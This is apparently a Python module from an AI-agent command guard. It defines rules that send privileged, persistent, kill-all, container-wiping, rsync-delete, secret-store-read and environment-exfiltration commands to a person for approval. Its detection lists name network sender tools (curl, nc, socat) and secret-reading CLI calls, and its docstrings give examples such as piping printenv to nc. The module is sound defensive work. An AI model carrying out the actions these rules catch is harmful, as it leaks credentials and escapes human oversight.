"""Rules for what an agent does to the machine rather than to files: running as root,
leaving jobs behind that outlive the session, killing everything, pulling secrets out
of a secret store, wiping every container, mirroring emptiness over a tree.

These were the classes an independent red-team set found unguarded (bench/guard). They
ask rather than deny (only `rsync --delete`, judged as the delete it is, can deny): each
has honest uses (installing a package with sudo, scheduling a job on purpose), but none
should happen without a person seeing it."""

from __future__ import annotations

from agentops_os.guard.argv import has_short, operands
from agentops_os.guard.rules_delete import delete_targets
from agentops_os.guard.shell import Word
from agentops_os.guard.unwrap import Call
from agentops_os.guard.verdict import Verdict

TYPE_CHECKING = False  # typing stays off the hook path
if TYPE_CHECKING:
    from agentops_os.guard.scope import Scope

# Programs whose job is to run something else as another (usually the root) user.
PRIVILEGE = frozenset({"sudo", "doas", "pkexec", "su", "run0"})


def privileged(judge: Scope, call: Call) -> Verdict | None:
    """Anything run through sudo/doas/pkexec/su: root can undo every other rule."""
    via = [name for name in call.via if name in PRIVILEGE]
    if via or call.name in PRIVILEGE:
        who = via[0] if via else call.name
        return judge.verdict("privilege", "ask", f"{who} runs a command as another user (root)")
    return None


def _crontab(judge: Scope, call: Call) -> Verdict | None:
    args = call.argv
    if has_short(args, "r"):
        return judge.verdict("persistence", "ask", "crontab -r deletes every scheduled job")
    if has_short(args, "l") and not operands(call.args):
        return None  # listing
    return judge.verdict("persistence", "ask", "crontab installs jobs that keep running after the session")


def _at(judge: Scope, call: Call) -> Verdict | None:
    if has_short(call.argv, "l") or has_short(call.argv, "r"):
        return None  # listing or removing queued jobs
    return judge.verdict("persistence", "ask", f"{call.name} schedules a command to run later, unseen")


def _service(judge: Scope, call: Call) -> Verdict | None:
    verbs = {"enable", "link", "preset", "load", "bootstrap", "submit", "edit", "set-property", "mask"}
    words = [a for a in call.argv if not a.startswith("-")]
    if words and words[0] in verbs:
        return judge.verdict(
            "persistence", "ask", f"{call.name} {words[0]} installs a service that outlives the session"
        )
    return None


_PKILL_VALUED = frozenset({"-u", "-U", "-g", "-G", "-P", "-s", "-t", "--signal", "--uid", "--euid", "--user"})


def _pkill(judge: Scope, call: Call) -> Verdict | None:
    """`pkill -u me`, `pkill -f .`, `killall -u me`: every process, not one."""
    args = call.argv
    patterns: list[str] = []
    by_user = False
    j = 0
    while j < len(args):
        arg = args[j]
        if arg in _PKILL_VALUED:
            by_user = by_user or arg in ("-u", "-U", "--uid", "--euid", "--user")
            j += 2
            continue
        if not arg.startswith("-"):
            patterns.append(arg)
        j += 1
    match_all = any(p in (".", ".*", "^", "") for p in patterns)
    if (by_user and not patterns) or match_all:
        return judge.verdict("kill-all", "ask", f"{call.name} would kill every matching process")
    return None


_STORE_READS = ("get-secret-value", "get-parameter", "get-parameters", "get-parameters-by-path")


def secret_store(judge: Scope, call: Call) -> Verdict | None:
    argv = call.argv
    text = " ".join(argv)
    reads = (
        (call.name == "aws" and argv[:1] in (["secretsmanager"], ["ssm"])
         and any(a in _STORE_READS for a in argv)
         and (argv[:1] == ["secretsmanager"] or "--with-decryption" in argv)),
        (call.name in ("kubectl", "oc") and argv[:2] in (["get", "secret"], ["get", "secrets"])
         and any(a.startswith(("-o", "--output")) for a in argv)),
        (call.name in ("kubectl", "oc") and argv[:2] in (["create", "token"],)),
        (call.name == "security" and argv[:1] in (["find-generic-password"], ["find-internet-password"],
                                                  ["dump-keychain"])),
        (call.name == "gh" and argv[:2] == ["auth", "token"]),
        (call.name == "vault" and (argv[:2] == ["kv", "get"] or argv[:1] == ["read"])),
        (call.name == "gcloud" and "secrets versions access" in text),
        (call.name == "gcloud" and "print-access-token" in text),
        (call.name == "az" and argv[:3] == ["keyvault", "secret", "show"]),
        (call.name == "op" and argv[:1] in (["read"], ["item"]) and ("get" in argv or argv[:1] == ["read"])),
    )
    if any(reads):
        return judge.verdict("secret-read", "ask", f"{call.name} {' '.join(argv[:2])} prints a stored secret")
    return None


def _containers(judge: Scope, call: Call) -> Verdict | None:
    argv = call.argv
    everything = has_short(argv, "a") or "--all" in argv or "--volumes" in argv
    wipe = argv[:2] in (["system", "reset"], ["volume", "prune"])
    if wipe or (argv[:2] == ["system", "prune"] and everything):
        what = f"{call.name} {' '.join(argv[:2])}"
        return judge.verdict("container-wipe", "ask", f"{what} deletes images and volumes")
    return None


_RSYNC_VALUED = frozenset(
    {"-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--files-from", "--password-file",
     "--log-file", "--port", "--chmod", "--chown", "-T", "--temp-dir", "--backup-dir", "--link-dest",
     "--compare-dest", "--copy-dest", "-M", "--remote-option"}
)


def _rsync(judge: Scope, call: Call) -> Verdict | None:
    """`rsync --delete SRC DEST` deletes whatever DEST has that SRC lacks: with an empty
    SRC, all of DEST. DEST is judged as a recursive delete target (`--del`, `--delet`:
    rsync takes any unambiguous prefix)."""
    args = call.args
    if not any(w.text.startswith("--del") for w in args):
        return None
    places: list[Word] = []
    j = 0
    while j < len(args):
        text = args[j].text
        if text in _RSYNC_VALUED:
            j += 2
            continue
        if not text.startswith("-"):
            places.append(args[j])
        j += 1
    if len(places) < 2 or ":" in places[-1].text.split("/", 1)[0]:
        return None  # a remote destination is another machine's
    target = places[-1]
    return delete_targets(judge, Call("rm", [target], call.command), [target], True)


_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare"})
SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "http", "https", "xh", "telnet"})


def exfiltration(judge: Scope, call: Call) -> Verdict | None:
    """`env | curl --data-binary @- …`, `printenv | nc host 80`: the whole environment
    (tokens included) sent over the network."""
    for command in call.upstream:
        if command.words and command.words[0].text.rsplit("/", 1)[-1] in _ENV_DUMPS:
            source = command.words[0].text  # e.g. env
            reason = f"{call.name} sends the output of {source}, every token in the environment, out"
            return judge.verdict("exfiltration", "ask", reason)
    return None


# Programs with other rules too (rules_infra): their secret reads are checked besides.
SECRET_CLIS = frozenset({"aws", "kubectl", "oc", "gh", "gcloud", "az"})

RULES = {
    "rsync": _rsync,
    "crontab": _crontab,
    "at": _at,
    "batch": _at,
    "systemctl": _service,
    "launchctl": _service,
    "pkill": _pkill,
    "killall": _pkill,
    "security": secret_store,
    "vault": secret_store,
    "op": secret_store,
    "docker": _containers,
    "podman": _containers,
}
